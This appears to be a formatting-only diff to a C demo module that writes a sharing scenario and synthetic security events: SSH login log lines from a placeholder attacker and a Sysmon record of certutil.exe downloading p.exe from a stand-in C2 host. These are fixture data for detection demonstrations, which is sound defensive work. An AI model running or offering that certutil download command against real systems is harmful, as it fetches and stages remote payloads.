@@ -170,9 +170,8 @@ static const char csirt_policy[] = "version: 1\n"
 static const char ot_policy[] = "version: 1\nrules: []\n";
 
 /* The circle's pseudonymisation key, the same on every node. */
-static const char circle_key[] =
-	"6b796b6c6f732064656d6f2063697263"
-	"6c65206b65793a206e6f742073656372\n";
+static const char circle_key[] = "6b796b6c6f732064656d6f2063697263"
+				 "6c65206b65793a206e6f742073656372\n";
 
 int demo_write_scenario(struct demo *d)
 {
@@ -201,8 +200,7 @@ int demo_write_scenario(struct demo *d)
 	}
 	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
 		snprintf(path, sizeof(path), "%s/%s",
-			 files[i].node < 0 ? d->dir
-					   : d->n[files[i].node].home,
+			 files[i].node < 0 ? d->dir : d->n[files[i].node].home,
 			 files[i].name);
 		if (demo_write(path, files[i].text, files[i].secret) != 0)
 			return -1;
@@ -228,8 +226,9 @@ void demo_events(struct ky_buf *syslog, struct ky_buf *json)
 			    " port %d ssh2\n",
 			    stamp, 4210 + i, 50020 + i);
 	ky_buf_addf(syslog,
-		    "<38>%s " DEMO_HOST " sshd[4299]: Accepted password for "
-		    DEMO_USER " from " DEMO_ATTACKER " port 50030 ssh2\n",
+		    "<38>%s " DEMO_HOST
+		    " sshd[4299]: Accepted password for " DEMO_USER
+		    " from " DEMO_ATTACKER " port 50030 ssh2\n",
 		    stamp);
 	/* a Sysmon process creation (evtx_dump JSON), then the connection
 	 * to the C2 (ECS-style JSON) */
@@ -238,9 +237,11 @@ void demo_events(struct ky_buf *syslog, struct ky_buf *json)
 		"{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{"
 		"\"Name\":\"Microsoft-Windows-Sysmon\"}},\"EventID\":1,"
 		"\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
-		"\"Computer\":\"" DEMO_HOST "\",\"TimeCreated\":{\"#attributes\":"
+		"\"Computer\":\"" DEMO_HOST
+		"\",\"TimeCreated\":{\"#attributes\":"
 		"{\"SystemTime\":\"%s\"}}},\"EventData\":{\"Image\":\"C:\\\\"
-		"Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil"
+		"Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":"
+		"\"certutil"
 		".exe -urlcache -split -f http://" DEMO_C2 "/p.exe p.exe\","
 		"\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
 		"\"User\":\"CORP\\\\" DEMO_USER "\"}}}\n",
